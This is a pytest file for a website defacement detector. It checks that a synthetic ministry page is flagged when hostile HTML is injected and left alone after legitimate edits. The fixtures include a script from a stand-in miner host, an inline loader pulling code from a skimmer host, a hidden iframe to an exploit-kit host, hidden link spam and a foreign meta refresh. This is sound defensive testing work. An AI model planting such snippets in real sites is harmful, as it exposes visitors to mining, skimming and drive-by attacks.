"""Integrity analysis on a synthetic ministry page: injections, legitimate edits, noise, rules."""

from __future__ import annotations

import pytest

from mamori.websites.enums import FindingKind
from mamori.websites.integrity import Baseline, assess
from mamori.websites.schemas import ContentRules
from mamori.websites.volatile import learn_volatile

from .pages import NEWS, ministry_page

URL = "https://www.interior.gov.example/"


@pytest.fixture()
def baseline() -> Baseline:
    return Baseline.approve(ministry_page(), url=URL)


def test_identical_page_is_clean(baseline: Baseline) -> None:
    verdict = assess(baseline, ministry_page())
    assert not verdict.defaced and verdict.score == 0.0 and verdict.reasons == []


def test_volatile_tokens_are_not_changes(baseline: Baseline) -> None:
    noisy = ministry_page(token="9f8e7d6c5b4a39281706ffee", clock="2026-11-24 23:59", visitors=98765)
    verdict = assess(baseline, noisy)
    assert verdict.score == 0.0, verdict.reasons


def test_news_update_mentioning_hacked_by_is_legitimate(baseline: Baseline) -> None:
    article = (
        "Ministry restores online services after cyber attack",
        "Last year the ministry's website was hacked by a criminal group; the site was hacked by "
        "attackers who were later arrested. Owned by the state, the new platform has been audited.",
    )
    verdict = assess(baseline, ministry_page(news=[article, *NEWS]))
    assert not verdict.defaced, verdict.reasons
    assert verdict.score < 0.3


def test_rewritten_news_list_is_legitimate(baseline: Baseline) -> None:
    news = [(f"Announcement number {i}", f"Details of announcement {i} for citizens.") for i in range(8)]
    assert not assess(baseline, ministry_page(news=news)).defaced


def test_injected_foreign_script(baseline: Baseline) -> None:
    page = ministry_page(inject_head='<script src="https://cdn.evil-miner.example/m.js"></script>')
    verdict = assess(baseline, page)
    assert verdict.defaced
    assert FindingKind.FOREIGN_SCRIPT in verdict.kinds()
    assert any("evil-miner.example" in r for r in verdict.reasons)


def test_inline_script_loading_foreign_code(baseline: Baseline) -> None:
    inline = "<script>var s=document.createElement('script');s.src='//skimmer.example.net/k.js';</script>"
    verdict = assess(baseline, ministry_page(inject_body=inline))
    assert verdict.defaced and FindingKind.FOREIGN_SCRIPT in verdict.kinds()


def test_allowed_domain_is_not_foreign() -> None:
    baseline = Baseline.approve(ministry_page(), url=URL, allowed_domains=("stats.gov.example",))
    page = ministry_page(inject_head='<script src="https://www.stats.gov.example/count.js"></script>')
    assert not assess(baseline, page).defaced


def test_hidden_link_spam(baseline: Baseline) -> None:
    links = "".join(f'<a href="https://casino-{i}.example/bonus">online casino {i}</a>' for i in range(12))
    verdict = assess(baseline, ministry_page(inject_body=f'<div style="position:absolute;left:-9999px">{links}</div>'))
    assert verdict.defaced and FindingKind.LINK_SPAM in verdict.kinds()


def test_visible_new_links_are_not_spam(baseline: Baseline) -> None:
    links = "".join(f'<a href="https://agency-{i}.gov.example/">Agency {i}</a>' for i in range(5))
    assert not assess(baseline, ministry_page(inject_body=f"<p>Partners: {links}</p>")).defaced


def test_hidden_iframe_injection(baseline: Baseline) -> None:
    frame = '<iframe src="http://exploit-kit.example/land" width="0" height="0" frameborder="0"></iframe>'
    verdict = assess(baseline, ministry_page(inject_body=frame))
    assert verdict.defaced and FindingKind.FOREIGN_SCRIPT in verdict.kinds()


def test_visible_iframe_from_unknown_domain_is_suspicious_not_defaced(baseline: Baseline) -> None:
    frame = '<iframe src="https://video.example/embed/1" width="560" height="315"></iframe>'
    verdict = assess(baseline, ministry_page(inject_body=frame))
    assert 0 < verdict.score < 0.5 and not verdict.defaced


def test_meta_refresh_to_foreign_site(baseline: Baseline) -> None:
    refresh = '<meta http-equiv="refresh" content="0; url=https://propaganda.example/">'
    assert assess(baseline, ministry_page(inject_head=refresh)).defaced


def test_banner_injected_into_intact_page(baseline: Baseline) -> None:
    """Partial defacement: the page is intact, one heading claims it."""
    verdict = assess(baseline, ministry_page(inject_body="<h1>Hacked by Cyber Ghost Team</h1>"))
    assert verdict.defaced and FindingKind.MARKER in verdict.kinds()


@pytest.mark.parametrize(
    "banner",
    [
        "<h1>Diretas oleh Garuda Security</h1>",
        "<h1>Ayyildiz Tim tarafından hacklendi</h1>",
        "<h1>Site hackeado por Anonymous Brasil</h1>",
        "<h1>تم اختراق الموقع بواسطة فريق</h1>",
        "<h1>このサイトはXXXによってハッキングされました</h1>",
        "<h1>本站已被黑</h1>",
    ],
)
def test_banners_in_other_languages(baseline: Baseline, banner: str) -> None:
    assert assess(baseline, ministry_page(inject_body=banner)).defaced


def test_defacement_styling_adds_up(baseline: Baseline) -> None:
    styling = (
        '<marquee>Free Palestine</marquee><audio autoplay src="/x.mp3"></audio>'
        "<style>body { background-color: black; color: red }</style>"
    )
    verdict = assess(baseline, ministry_page(inject_body=styling))
    assert FindingKind.STYLING in verdict.kinds() and verdict.score >= 0.4


def test_critical_element_change() -> None:
    rules = ContentRules(critical_selectors=("img#logo", "title"))
    baseline = Baseline.approve(ministry_page(), url=URL, rules=rules)
    swapped = ministry_page().replace("/static/crest.png", "https://imgur.example/skull.png")
    verdict = assess(baseline, swapped)
    assert verdict.defaced and FindingKind.CRITICAL in verdict.kinds()
    assert not assess(baseline, ministry_page(visitors=5)).defaced


def test_ignore_selectors_remove_dynamic_regions_from_similarity() -> None:
    rules = ContentRules(ignore_selectors=("section.latest-news",))
    baseline = Baseline.approve(ministry_page(), url=URL, rules=rules)
    news = [(f"Completely different item {i}", "Other text entirely, nothing in common.") for i in range(30)]
    verdict = assess(baseline, ministry_page(news=news))
    assert verdict.text_similarity == 1.0 and verdict.structure_similarity == 1.0


def test_markers_inside_ignored_regions_still_count() -> None:
    rules = ContentRules(ignore_selectors=("section.latest-news",))
    baseline = Baseline.approve(ministry_page(), url=URL, rules=rules)
    verdict = assess(baseline, ministry_page(news=[("Hacked by Sharkin", "Your security is weak")]))
    assert verdict.defaced


def test_learned_volatile_regions() -> None:
    baseline = Baseline.approve(ministry_page(), url=URL)
    fetches = [ministry_page(news=[(f"Story {i} of the day", f"Body {i}"), *NEWS[1:]]) for i in range(3)]
    paths = learn_volatile(baseline, fetches)
    assert paths and all("news" in p for p in paths)
    learned = Baseline.approve(ministry_page(), url=URL, volatile_paths=paths)
    changed = ministry_page(news=[("Yet another story", "Different body"), *NEWS[1:]])
    assert assess(learned, changed).text_similarity > assess(baseline, changed).text_similarity


def test_learning_skips_defaced_fetches() -> None:
    baseline = Baseline.approve(ministry_page(), url=URL)
    defaced = "<html><head><title>Hacked by X</title></head><body><h1>Hacked by X</h1></body></html>"
    assert learn_volatile(baseline, [defaced]) == frozenset()


def test_subresource_change_under_the_same_url() -> None:
    baseline = Baseline.approve(ministry_page(), url=URL, subresources={URL + "static/site.js": "a" * 64})
    verdict = assess(baseline, ministry_page(), subresources={URL + "static/site.js": "b" * 64})
    assert FindingKind.SUBRESOURCE in verdict.kinds()


def test_wiped_page_is_flagged(baseline: Baseline) -> None:
    verdict = assess(baseline, b"<html><body></body></html>")
    assert FindingKind.EMPTIED in verdict.kinds() and verdict.defaced


def test_verdict_as_dict_is_the_cli_shape(baseline: Baseline) -> None:
    d = assess(baseline, ministry_page(inject_body="<h1>Hacked by X</h1>")).as_dict()
    assert set(d) == {"defaced", "score", "reasons"} and isinstance(d["reasons"], list)


@pytest.mark.parametrize(
    ("banner", "encoding"),
    [("تم اختراق الموقع بواسطة فريق", "utf-8"), ("本站已被黑", "utf-8"), ("ハッキングされました", "utf-8")],
)
def test_undeclared_utf8_pages_are_read_as_utf8(banner: str, encoding: str) -> None:
    """No <meta charset>: libxml2 alone would read Latin-1 and no non-Latin marker would ever match."""
    plain = "<html><head><title>Ministry</title></head><body><p>Welcome to the ministry.</p></body></html>"
    baseline = Baseline.approve(plain.encode(encoding), url=URL)
    defaced = plain.replace("<body>", f"<body><h1>{banner}</h1>").encode(encoding)
    assert assess(baseline, defaced).defaced


def test_new_inline_script_with_comments_is_not_foreign(baseline: Baseline) -> None:
    script = (
        "<script>\n// update document.title for the campaign, see https://docs.example.org/howto\n"
        "/* window.location handling: http://old.example.com */\n"
        "document.title = 'Ministry - ' + document.title; var u = '/api/news';</script>"
    )
    verdict = assess(baseline, ministry_page(inject_body=script))
    assert FindingKind.FOREIGN_SCRIPT not in verdict.kinds() and not verdict.defaced, verdict.reasons
